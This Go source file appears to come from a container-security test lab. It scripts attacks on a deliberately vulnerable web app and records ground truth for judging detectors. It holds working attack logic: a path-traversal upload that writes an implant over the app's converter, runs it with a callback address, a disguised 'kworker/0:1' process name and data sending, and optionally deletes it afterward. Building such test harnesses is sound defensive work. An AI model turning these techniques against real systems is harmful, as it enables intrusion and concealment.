package lab

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

// Attack is one way to break into a container.
type Attack struct {
	Name  string
	Image string // the victim that it works on
	Root  bool   // works only where the victim runs as root
	What  string // in one line
	run   func(context.Context, *intrusion) error
}

// Truth is what an attack really did, for a test to hold a verdict against.
type Truth struct {
	Attack string `json:"attack"`
	// Began is just before the first malicious request, Ended when the attack had done its work; UTC.
	Began time.Time `json:"began"`
	Ended time.Time `json:"ended"`
	// Requests are the malicious ones, "POST /avatar?name=…", as the victim logs them.
	Requests []string `json:"requests"`
	// Dropped are the files written, and still there; Deleted those that are gone again; Replaced those of the
	// image whose content is another now. Paths inside the container.
	Dropped  []string `json:"dropped,omitempty"`
	Deleted  []string `json:"deleted,omitempty"`
	Replaced []string `json:"replaced,omitempty"`
	// SHA256 is of the implant (or of the malicious file); empty where code ran in the victim's own process.
	SHA256 string `json:"sha256,omitempty"`
	// C2 is the address that was called, Sent how many bytes it got.
	C2   string `json:"c2,omitempty"`
	Sent int64  `json:"sent,omitempty"`
	// Listen is an address that the implant listens on.
	Listen string `json:"listen,omitempty"`
	// PID is the malicious process as the container numbers it, HostPID as the host does; 0 if there is none.
	PID     int `json:"pid,omitempty"`
	HostPID int `json:"host_pid,omitempty"`
	// Exe is where /proc/HostPID/exe points, " (deleted)" and all, Comm the name that the process goes by.
	Exe  string `json:"exe,omitempty"`
	Comm string `json:"comm,omitempty"`
	// Memfd is the name of a memory file that is open or runs.
	Memfd string `json:"memfd,omitempty"`
	// PatchedPID is the process (in the container) whose text was changed, at PatchedAddress.
	PatchedPID     int    `json:"patched_pid,omitempty"`
	PatchedAddress uint64 `json:"patched_address,omitempty"`
}

// intrusion is one attack under way.
type intrusion struct {
	lab   *Lab
	c     *Container
	c2    *C2
	truth *Truth
	stage *stage // nil outside of scenarios
}

// Attack breaks into c. The listener that the implant calls is c2; the caller closes it.
func (l *Lab) Attack(ctx context.Context, c *Container, name string, c2 *C2) (*Truth, error) {
	for _, a := range Attacks() {
		if a.Name != name {
			continue
		}
		if a.Image != c.Image {
			return nil, fmt.Errorf("attack %s is for %s, and %s runs %s", name, a.Image, c.Name, c.Image)
		}
		b := &intrusion{lab: l, c: c, c2: c2, truth: &Truth{Attack: name, Began: time.Now().UTC()}}
		ctx, cancel := context.WithTimeout(ctx, 60*time.Second)
		defer cancel()
		if err := a.run(ctx, b); err != nil {
			return nil, fmt.Errorf("attack %s on %s: %w", name, c.Name, err)
		}
		b.truth.Ended = time.Now().UTC()
		return b.truth, nil
	}
	return nil, fmt.Errorf("unknown attack %q", name)
}

// implant is the compiled program.
func (b *intrusion) implant(ctx context.Context) ([]byte, error) { return b.program(ctx, "implant") }

// program is one of the lab's harmless stand-ins for what intruders bring: "implant" or "miner".
func (b *intrusion) program(ctx context.Context, name string) ([]byte, error) {
	unlock, err := b.lab.lock(ctx)
	if err != nil {
		return nil, err
	}
	defer unlock()
	bin, err := b.lab.program(ctx, name)
	if err == nil {
		b.truth.SHA256 = digest(bin)
	}
	return bin, err
}

func digest(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// request sends a malicious request and notes it.
func (b *intrusion) request(ctx context.Context, method, path string, body []byte, want int) error {
	r, err := http.NewRequestWithContext(ctx, method, b.c.URL+path, bytes.NewReader(body))
	if err != nil {
		return err
	}
	r.Header.Set("User-Agent", "python-requests/2.31.0")
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		return err
	}
	resp.Body.Close()
	if resp.StatusCode != want {
		return fmt.Errorf("%s %s gave status %d, not %d", method, path, resp.StatusCode, want)
	}
	b.truth.Requests = append(b.truth.Requests, method+" "+path)
	return nil
}

// root reports whether the victim runs as root.
func (b *intrusion) root() bool {
	return strings.HasPrefix(b.c.Spec.User, "0") || b.c.Spec.User == "root"
}

// upload puts a file anywhere through goweb's first flaw.
func (b *intrusion) upload(ctx context.Context, path string, content []byte, mode string) error {
	q := "/avatar?name=" + url.QueryEscape("../.."+path)
	if mode != "" {
		q += "&mode=" + mode
	}
	return b.request(ctx, http.MethodPost, q, content, http.StatusCreated)
}

// plant uploads the implant as goweb's converter and has it run with the options.
func (b *intrusion) plant(ctx context.Context, opts ...string) error {
	return b.plantProgram(ctx, "implant", append([]string{"-c2", b.c2.Addr, "-name", "kworker/0:1", "-send", "11468"}, opts...)...)
}

func (b *intrusion) plantProgram(ctx context.Context, name string, opts ...string) error {
	bin, err := b.program(ctx, name)
	if err != nil {
		return err
	}
	path := "/data/plugins/conv"
	if b.root() {
		path = "/usr/lib/conv"
	}
	if err := b.upload(ctx, path, bin, ""); err != nil {
		return err
	}
	q := url.Values{"opt": opts}
	if err := b.request(ctx, http.MethodGet, "/convert?"+q.Encode(), nil, http.StatusAccepted); err != nil {
		return err
	}
	if has(opts, "-delete") {
		b.truth.Deleted = append(b.truth.Deleted, path)
	} else {
		b.truth.Dropped = append(b.truth.Dropped, path)
	}
	return b.called(ctx)
}

func has(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

// called waits for the implant's call and notes what can be known of it.
func (b *intrusion) called(ctx context.Context) error {
	s, err := b.c2.Wait(ctx)
	if err != nil {
		return err
	}
	b.truth.C2 = b.c2.Addr
	b.truth.PID = atoi(s.Hello["pid"])
	if at, ok := strings.CutPrefix(s.Hello["patched"], "0x"); ok {
		if b.truth.PatchedAddress, err = strconv.ParseUint(at, 16, 64); err != nil {
			return err
		}
		b.truth.PatchedPID = 1
	}
	if b.truth.HostPID, err = b.c.HostPID(b.truth.PID); err != nil {
		return err
	}
	if b.truth.Exe, err = os.Readlink(fmt.Sprintf("/proc/%d/exe", b.truth.HostPID)); err != nil {
		return err
	}
	comm, err := os.ReadFile(fmt.Sprintf("/proc/%d/comm", b.truth.HostPID))
	if err != nil {
		return err
	}
	b.truth.Comm = strings.TrimSuffix(string(comm), "\n")
	// What was sent is counted when it has arrived.
	for last := int64(-1); last != s.Received(); time.Sleep(30 * time.Millisecond) {
		last = s.Received()
	}
	b.truth.Sent = s.Received()
	return nil
}

// HostPID translates a pid of the container's pid namespace to the host's.
func (c *Container) HostPID(pid int) (int, error) {
	ns, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/pid", c.PID))
	if err != nil {
		return 0, err
	}
	dirs, err := filepath.Glob("/proc/[0-9]*")
	if err != nil {
		return 0, err
	}
	for _, d := range dirs {
		if other, err := os.Readlink(d + "/ns/pid"); err != nil || other != ns {
			continue
		}
		status, err := os.ReadFile(d + "/status")
		if err != nil {
			continue // it ended meanwhile
		}
		for line := range strings.Lines(string(status)) {
			if v, ok := strings.CutPrefix(line, "NSpid:"); ok {
				f := strings.Fields(v)
				if len(f) > 0 && atoi(f[len(f)-1]) == pid {
					return atoi(filepath.Base(d)), nil
				}
			}
		}
	}
	return 0, fmt.Errorf("no process %d in the container %s", pid, c.Name)
}
